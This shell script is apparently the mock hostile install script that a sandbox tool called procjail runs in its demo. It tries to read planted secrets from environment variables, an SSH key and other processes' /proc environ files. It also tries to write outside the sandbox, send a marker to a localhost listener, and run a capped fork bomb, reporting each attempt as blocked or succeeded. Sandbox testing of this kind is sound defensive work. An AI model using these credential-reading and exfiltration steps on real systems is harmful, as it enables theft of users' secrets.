#!/bin/sh
# A hostile package install script, as procjail's demo runs it. It tries
# what real malicious install scripts do and prints one line per attempt:
#   ATTEMPT <name> <BLOCKED|SUCCEEDED|SKIPPED> <detail>
# Its parameters arrive on stdin (the sandbox's line channel), one line:
#   <caller pid> <victim home> <marker> <host port>
# The marker is part of every fake secret, so finding it means a leak.

read -r caller home mark port || { echo "ATTEMPT input BLOCKED no parameters on stdin"; exit 2; }

report() { name=$1 result=$2; shift 2; echo "ATTEMPT $name $result $*"; }

# why prints the error a read of $1 gets.
why() { cat "$1" 2>&1 >/dev/null | head -n 1; }

secret_env() {
	found=""
	for v in GITHUB_TOKEN AWS_SECRET_ACCESS_KEY NPM_TOKEN; do
		eval "[ -n \"\${$v+x}\" ]" && found="$found $v"
	done
	if env | grep -q "$mark"; then found="$found (a variable holds a secret value)"; fi
	if [ -n "$found" ]; then
		report secret-env SUCCEEDED "visible:$found"
	else
		report secret-env BLOCKED "GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY, NPM_TOKEN not in the environment"
	fi
}

ssh_key() {
	for f in "$home/.ssh/id_rsa" "${HOME:-/nonexistent}/.ssh/id_rsa"; do
		case $(cat "$f" 2>/dev/null) in
		*"$mark"*) report ssh-key SUCCEEDED "read $f"; return ;;
		esac
	done
	report ssh-key BLOCKED "$(why "$home/.ssh/id_rsa")"
}

# environ <attempt> <pid>: read another process's environment. Reading a
# non-empty one is a leak even without the planted secrets (they are set
# after procjail started, so its own environ block does not hold them).
environ() {
	f=/proc/$2/environ
	if out=$(tr '\0' '\n' <"$f" 2>/dev/null); then
		case $out in
		*"$mark"*) report "$1" SUCCEEDED "read the planted secrets in $f" ;;
		"") report "$1" BLOCKED "$f is readable but empty" ;;
		*) report "$1" SUCCEEDED "read $f: $(printf '%s\n' "$out" | wc -l | tr -d ' ') variables" ;;
		esac
	else
		report "$1" BLOCKED "$(why "$f")"
	fi
}

write_outside() {
	target="$home/procjail-demo-was-here"
	if msg=$( (echo "$mark" >"$target") 2>&1); then
		report write-outside SUCCEEDED "wrote $target"
	else
		report write-outside BLOCKED "$target: ${msg##*: }"
	fi
}

# connect sends the marker to the host's listener with python3 or node;
# it fails with status 3 when neither is available.
connect() {
	if command -v python3 >/dev/null 2>&1; then
		python3 -c '
import socket, sys
try:
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3)
    s.sendall(sys.argv[2].encode() + b"\n"); s.close()
except OSError as e:
    print(e); sys.exit(1)
' "$port" "$mark" 2>&1
	elif command -v node >/dev/null 2>&1; then
		node -e '
const s = require("net").connect(+process.argv[1], "127.0.0.1", () => s.end(process.argv[2] + "\n"));
s.on("error", (e) => { console.log(e.message); process.exit(1); });
' "$port" "$mark" 2>&1
	else
		return 3
	fi
}

network() {
	msg=$(connect)
	case $? in
	0) report network SUCCEEDED "connected to a host listener on 127.0.0.1:$port" ;;
	3) report network SKIPPED "neither python3 nor node is available in the sandbox" ;;
	*) report network BLOCKED "127.0.0.1:$port: $(echo "$msg" | tail -n 1)" ;;
	esac
}

# fork_bomb starts sleeping processes until fork fails (or 100 of them),
# then kills them. It runs last: until its processes are gone nothing
# else can fork.
fork_bomb() {
	limit=100
	n=$( (
		pids=""
		trap 'kill $pids 2>/dev/null' EXIT
		i=0
		while [ "$i" -lt "$limit" ]; do
			sleep 30 </dev/null >/dev/null 2>&1 &
			pids="$pids $!"
			i=$((i + 1))
			echo "$i"
		done
	) 2>/dev/null | tail -n 1)
	if [ "${n:-0}" -ge "$limit" ]; then
		report fork-bomb SUCCEEDED "started $limit processes without hitting a limit"
	else
		report fork-bomb BLOCKED "fork failed after ${n:-0} processes"
	fi
}

secret_env
ssh_key
environ parent-environ "$PPID"
environ caller-environ "$caller"
write_outside
network
fork_bomb
echo DONE
